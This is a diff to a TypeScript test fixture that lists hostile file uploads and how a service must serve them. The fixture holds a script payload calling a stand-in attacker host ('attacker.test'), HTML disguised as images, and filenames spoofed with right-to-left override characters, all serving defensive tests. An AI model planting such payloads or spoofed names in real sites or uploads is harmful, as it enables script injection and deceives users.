@@ -1,6 +1,6 @@
-/** Files and names that a hostile visitor would send, each with how it must be served (security R12, R13). */
+/** Files and names that a hostile visitor could send, with how each must be served (security R12, R13). */
 
-/** Calls home when it runs. */
+/** A script that reports to the attacker when it runs. */
 const CALL = 'fetch("http://attacker.test/ran")'
 const SCRIPT = `<script>${CALL}</script>`
 const bytes = (...parts: (string | readonly number[])[]) =>
@@ -14,16 +14,20 @@ const BITMAP = [0x42, 0x4d, 0x46, 0, 0, 0, 0, 0, 0, 0, 0x36, 0, 0, 0, 0x28, 0, 0
 const AVIF = [0, 0, 0, 0x18, ...bytes('ftypmif1'), 0, 0, 0, 0, ...bytes('miafavif')]
 const svg = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}</svg>`
 
+/** The browser may display the file. */
 export const INLINE = 'inline'
+/** The browser must download the file. */
 export const ATTACHMENT = 'attachment'
+/** The type of everything that is not a known harmless format. */
 export const UNKNOWN = 'application/octet-stream'
 const TEXT = 'text/plain; charset=utf-8'
 const SVG = 'image/svg+xml'
 
+/** A hostile file, and how it must be served. */
 export type HostileUpload = {
   readonly what: string
   readonly name: string
-  /** The type that the sender declares; null for none at all. */
+  /** The type that the sender declares; null for none. */
   readonly declared: string | null
   readonly bytes: Uint8Array
   readonly servedAs: string
@@ -46,6 +50,7 @@ const row = (
   disposition,
 })
 
+/** All hostile files. */
 export const HOSTILE_UPLOADS: readonly HostileUpload[] = [
   row('a page', 'page.html', 'text/html', `<!doctype html>${SCRIPT}`, UNKNOWN),
   row('a page declared as png', 'cat.png', 'image/png', `<html>${SCRIPT}`, UNKNOWN),
@@ -180,7 +185,7 @@ export const HOSTILE_UPLOADS: readonly HostileUpload[] = [
   row('the longest name', `${'n'.repeat(195)}.html`, 'text/html', SCRIPT, UNKNOWN),
 ]
 
-/** What stands in the place of the name in a key that must be refused. */
+/** Names in storage keys that must be refused, with descriptions. */
 export const REFUSED_NAMES: readonly (readonly [string, string])[] = [
   ['a right-to-left override', 'photo\u202egnp.exe'],
   ['an isolate', 'photo\u2067gnp.exe'],
